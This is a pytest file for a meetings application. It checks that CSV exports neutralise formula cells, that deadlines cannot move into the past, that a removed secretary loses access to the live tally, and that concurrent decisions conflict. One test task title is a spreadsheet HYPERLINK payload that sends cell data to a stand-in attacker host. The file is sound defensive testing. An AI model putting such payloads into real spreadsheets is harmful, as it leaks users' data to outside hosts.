"""Authorization and bad input of the domains between sittings (opinions, tasks).

Each test names the defect it guards: a CSV cell that a spreadsheet runs as a formula, a live
tally reaching a creator who left the office, deadlines moved into the past or earlier than
promised, and decisions taken twice by two people who read the same state (PostgreSQL's
READ COMMITTED lets both through unless the write itself checks the state).
"""
from __future__ import annotations

import csv
import io
from contextlib import contextmanager
from datetime import timedelta

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from meetings.accounts.models import User
from meetings.core.db import utcnow
from meetings.core.errors import Conflict
from meetings.core.extensions import db, socketio
from meetings.opinions import answering
from meetings.opinions import service as opinion_service
from meetings.opinions.models import OpinionAnswer, OpinionForm
from meetings.tasks import service as task_service
from meetings.tasks.models import Task, TaskEntry, TaskExtension
from tests.mail_server import mail_server  # noqa: F401  (fixture)
from tests.notification_helpers import note_app  # noqa: F401  (fixture)
from tests.opinion_helpers import agree_and_choose, body12, form_body  # noqa: F401  (fixtures)
from tests.task_helpers import in_days, iso, make_office, make_units, new_task, report


def _form(as_user, world, **over) -> dict:
    office = as_user("secretary")
    r = office.post(f"/api/v1/bodies/{world.body.id}/opinion-forms", json=form_body(world, **over))
    assert r.status_code == 201, r.get_json()
    r = office.post(f"/api/v1/opinion-forms/{r.get_json()['id']}/open")
    assert r.status_code == 200, r.get_json()
    return r.get_json()


@contextmanager
def _stale(app, model, row_id: int):
    """The row as a second request read it a moment ago: its own session, its read finished.
    Whatever that request then writes is rolled back, and its session closed, whatever happens."""
    with app.app_context():
        session = Session(bind=db.engine, expire_on_commit=False)
        try:
            row = session.get(model, row_id)
            session.commit()
            yield session, row
        finally:
            session.rollback()
            session.close()


# --------------------------------------------------------------------------- tasks: the CSV export

def test_task_csv_cells_never_start_a_formula(note_app, world, as_user):  # noqa: F811
    make_office(world)
    units = make_units(world, as_user)
    office = as_user("secretary")
    assert office.patch(f"/api/v1/units/{units.finance}", json={"name": "+Sở Tài chính"}).status_code == 200
    new_task(office, world.body.id, title='=HYPERLINK("http://evil.example/?"&A1,"Xem")', lead_unit_id=units.finance)
    new_task(office, world.body.id, title="- Giao Sở Tài chính chủ trì", lead_unit_id=units.planning,
             source={"kind": "manual", "label": "@SUM(1+1)"})
    r = office.get(f"/api/v1/bodies/{world.body.id}/tasks/export.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))[1:]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    titles = sorted(row[1] for row in rows)
    assert titles == ["'- Giao Sở Tài chính chủ trì", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")"]


# --------------------------------------------------------------------------- tasks: deadlines in the past

def test_task_deadline_never_moves_into_the_past(note_app, world, as_user, monkeypatch):  # noqa: F811
    make_office(world)
    units = make_units(world, as_user)
    office, head = as_user("secretary"), as_user("delegate")
    task = new_task(office, world.body.id, title="Rà soát hồ sơ", lead_unit_id=units.finance, deadline=in_days(2))
    r = office.patch(f"/api/v1/tasks/{task['id']}", json={"deadline": iso(in_days(-1))})
    assert r.status_code == 422 and r.json["error"]["code"] == "deadline_past", r.json
    # an unchanged deadline is no change of date: the edit of an overdue task's title still goes through
    assert office.patch(f"/api/v1/tasks/{task['id']}", json={"deadline": task["deadline"],
                                                              "title": "Rà soát lại"}).status_code == 200
    # five days on the task is overdue; "more time until three days from the start" is already past
    later = utcnow() + timedelta(days=5)
    monkeypatch.setattr(task_service, "utcnow", lambda: later)
    r = head.post(f"/api/v1/tasks/{task['id']}/extensions", json={"new_deadline": iso(in_days(3)), "reason": "Trễ"})
    assert r.status_code == 422 and r.json["error"]["code"] == "deadline_past", r.json
    assert not db.session.scalars(select(TaskExtension)).all()
    r = head.post(f"/api/v1/tasks/{task['id']}/extensions", json={"new_deadline": iso(in_days(9)), "reason": "Trễ"})
    assert r.status_code == 201, r.json


# --------------------------------------------------------------------------- tasks: two people, one decision

def test_a_task_is_decided_once_when_two_read_it_at_once(note_app, world, as_user):  # noqa: F811
    make_office(world)
    units = make_units(world, as_user)
    office, head = as_user("secretary"), as_user("delegate")
    task = new_task(office, world.body.id, title="Báo cáo quý", lead_unit_id=units.finance)
    assert report(head, task["id"], "submit", text="Đã xong").status_code == 200
    # a second office screen read the submitted task; the first accepts meanwhile
    with _stale(note_app, Task, task["id"]) as (session, stale):
        assert office.post(f"/api/v1/tasks/{task['id']}/accept", json={}).status_code == 200
        admin = session.get(User, world.admin.id)
        with pytest.raises(Conflict):
            task_service.return_task(session, stale, admin, reason="Thiếu số liệu")
        session.rollback()
        with pytest.raises(Conflict):
            task_service.accept(session, stale, admin)
    db.session.rollback()
    assert db.session.get(Task, task["id"]).status == "accepted"
    assert db.session.scalar(select(func.count(TaskEntry.id)).where(
        TaskEntry.task_id == task["id"], TaskEntry.kind.in_(("accepted", "returned")))) == 1

    # a progress report read before the head's submission does not undo it
    other = new_task(office, world.body.id, title="Kiểm tra thực địa", lead_unit_id=units.finance)
    with _stale(note_app, Task, other["id"]) as (session, stale):
        assert report(head, other["id"], "submit", text="Đã kiểm tra").status_code == 200
        with pytest.raises(Conflict):
            task_service.report_progress(session, stale, session.get(User, world.users["observer"].id),
                                         text="Đang làm", storage_path=note_app.config["STORAGE_PATH"], limits=None)
    db.session.rollback()
    assert db.session.get(Task, other["id"]).status == "submitted"

    # an extension request answered twice at once: one answer
    third = new_task(office, world.body.id, title="Lập đề án", lead_unit_id=units.finance)
    ext = head.post(f"/api/v1/tasks/{third['id']}/extensions",
                    json={"new_deadline": iso(in_days(40)), "reason": "Chờ ý kiến Bộ"}).json
    with _stale(note_app, TaskExtension, ext["id"]) as (session, stale):
        assert office.post(f"/api/v1/task-extensions/{ext['id']}/decision", json={"approve": True}).status_code == 200
        with pytest.raises(Conflict):
            task_service.decide_extension(session, stale, session.get(User, world.admin.id), approve=False,
                                          answer="Không đồng ý")
    db.session.rollback()
    assert db.session.get(TaskExtension, ext["id"]).status == "approved"


# --------------------------------------------------------------------------- opinions

def test_an_open_form_moves_its_deadline_only_later(app, body12, as_user):  # noqa: F811
    world = body12
    form = _form(as_user, world)
    url = f"/api/v1/opinion-forms/{form['id']}"
    sooner = (utcnow() + timedelta(hours=2)).isoformat()
    r = as_user("secretary").patch(url, json={"closes_at": sooner})
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "invalid_deadline", r.get_json()
    db.session.rollback()
    assert db.session.get(OpinionForm, form["id"]).closes_at.isoformat() == form["closes_at"].replace("Z", "+00:00")
    later = (utcnow() + timedelta(days=3)).isoformat()
    assert as_user("secretary").patch(url, json={"closes_at": later}).status_code == 200


def test_tally_leaves_a_creator_who_left_the_office(app, body12, as_user):  # noqa: F811
    world = body12
    form = _form(as_user, world)  # drafted and sent by the secretary; the chair signs the report
    r = as_user("admin").post(f"/api/v1/bodies/{world.body.id}/members",
                              json={"user_id": world.secretary.id, "is_secretariat": False})
    assert r.status_code in (200, 201), r.get_json()
    # no longer the office: the tally is not theirs to read
    assert as_user("secretary").get(f"/api/v1/opinion-forms/{form['id']}/tally").status_code == 403
    former = socketio.test_client(app, auth={"token": as_user.token("secretary")})
    signer = socketio.test_client(app, auth={"token": as_user.token("chair")})
    former.get_received(), signer.get_received()
    body = {"answers": agree_and_choose(form)}
    assert as_user("delegate").put(f"/api/v1/opinion-forms/{form['id']}/answer", json=body).status_code == 200
    assert [m for m in signer.get_received() if m["name"] == "opinion.tally"]  # the signer still follows it
    assert not [m for m in former.get_received() if m["name"] == "opinion.tally"]
    former.disconnect(), signer.disconnect()


def test_an_answer_read_before_the_close_is_not_stored_after_it(app, body12, as_user):  # noqa: F811
    world = body12
    form = _form(as_user, world)
    with _stale(app, OpinionForm, form["id"]) as (session, stale):
        assert as_user("secretary").post(f"/api/v1/opinion-forms/{form['id']}/close").status_code == 200
        member = session.get(User, world.delegate.id)
        with pytest.raises(Conflict) as err:
            answering.submit_answer(session, stale, member, agree_and_choose(form), app.config)
        assert err.value.code == "deadline_passed"
        session.rollback()
        # the hand close and the deadline job at once: one close, one stored tally
        with pytest.raises(Conflict):
            opinion_service.close_form(session, stale, None)
    db.session.rollback()
    assert not db.session.scalars(select(OpinionAnswer).where(OpinionAnswer.form_id == form["id"])).all()
    assert db.session.get(OpinionForm, form["id"]).status == "closed"
